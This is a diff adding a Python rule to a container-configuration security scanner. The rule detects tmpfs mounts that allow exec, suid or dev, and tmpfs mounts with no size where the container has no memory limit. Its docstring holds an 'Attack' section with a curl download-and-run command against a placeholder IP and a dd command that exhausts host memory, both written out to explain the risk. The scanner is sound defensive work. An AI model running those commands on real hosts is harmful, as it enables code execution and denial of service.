@@ -1,0 +1,96 @@
+"""Weak tmpfs.
+
+A tmpfs is the one place where a container with a read-only root can write, so it is where an intruder's tools land. The
+engine mounts it `noexec`, `nosuid` and `nodev`, which leaves little to do with them; the options `exec`, `suid` and `dev`
+take that away. A tmpfs also lies in memory: without a `size`, and without a memory limit on the container, writing to it
+uses up the memory of the host.
+
+## Attack
+    curl -so /tmp/x http://203.0.113.7/x && chmod +x /tmp/x && /tmp/x   # with exec, read-only root or not
+    dd if=/dev/zero of=/tmp/fill                                        # without a size or a memory limit
+
+## Bad command
+    docker run -d --read-only --memory=256m --tmpfs /tmp:exec,size=64m acme/render:2
+
+## Good command
+    docker run -d --read-only --memory=256m --tmpfs /tmp:noexec,nosuid,size=64m acme/render:2
+
+## Bad compose
+    services:
+      render:
+        image: acme/render:2
+        read_only: true
+        tmpfs:
+          - /tmp
+
+## Good compose
+    services:
+      render:
+        image: acme/render:2
+        read_only: true
+        tmpfs:
+          - /tmp:size=64m
+
+## What may break
+Programs that unpack and run native code in `/tmp` (JNI libraries, some package managers) fail without `exec`: point them
+to a folder of the image (`java.io.tmpdir`, `TMPDIR`). A tmpfs that is full fails with "No space left on device".
+
+## References
+- OWASP Docker Security Cheat Sheet, RULE #8
+- https://docs.docker.com/engine/storage/tmpfs/
+- https://docs.docker.com/reference/compose-file/services/#tmpfs
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Mapping
+from typing import Any
+
+from scanner.finding import Confidence, Severity
+from scanner.launch import Launch, Tmpfs, Value
+from scanner.rule import Fault, rule
+from scanner.source import Certainty
+
+_OPPOSITES = {"exec": "noexec", "suid": "nosuid", "dev": "nodev"}
+_UNRESOLVED = re.compile(r"[$`]")
+
+
+@rule(severity=Severity.LOW, cwe=732)
+def check(launch: Launch) -> Iterator[Fault]:
+    for value, where, options, sized in _tmpfs(launch):
+        if allowed := [name for name in _OPPOSITES if _in_force(name, options)]:
+            yield Fault(value, f"the tmpfs at {where} allows {', '.join(allowed)}, which the engine forbids by default")
+        if not sized and not _memory_limited(launch):
+            # a limit may come in the words that could not be resolved
+            confidence = Confidence.LOW if launch.opaque else None
+            yield Fault(value, f"the tmpfs at {where} has no size, and no memory limit bounds it", confidence=confidence)
+
+
+def _tmpfs(launch: Launch) -> Iterator[tuple[Value[Any], str, list[str], bool]]:
+    """Each tmpfs: the value that mounts it, where, its mount options, and whether its size is bounded (or not known)."""
+    for short in launch.host.tmpfs:
+        for mount in short.choices:
+            yield short, mount.target, mount.options.split(","), _sized(mount)
+    for long in launch.host.mounts:
+        for given in long.choices:
+            if given.get("Type") == "tmpfs":
+                details: Mapping[str, Any] = given.get("TmpfsOptions") or {}
+                options = ["=".join(option) for option in details.get("Options") or []]
+                yield long, str(given.get("Target", "")), options, bool(details.get("SizeBytes")) or long.unresolved is not None
+
+
+def _sized(mount: Tmpfs) -> bool:
+    size = re.findall(r"(?:^|,)(?:size|nr_blocks)=([^,]*)", mount.options)
+    return _UNRESOLVED.search(mount.options) is not None or bool(size) and size[-1].strip("0%kKmMgGtTpPeE") != ""
+
+
+def _in_force(name: str, options: list[str]) -> bool:
+    """Whether an option is the last word against its opposite, as mount(8) reads them."""
+    last = [option for option in options if option in (name, _OPPOSITES[name])][-1:]
+    return last == [name]
+
+
+def _memory_limited(launch: Launch) -> bool:
+    limit = launch.host.memory
+    return limit is not None and limit.certainty is not Certainty.SOMETIMES and all(size > 0 for size in limit.choices)
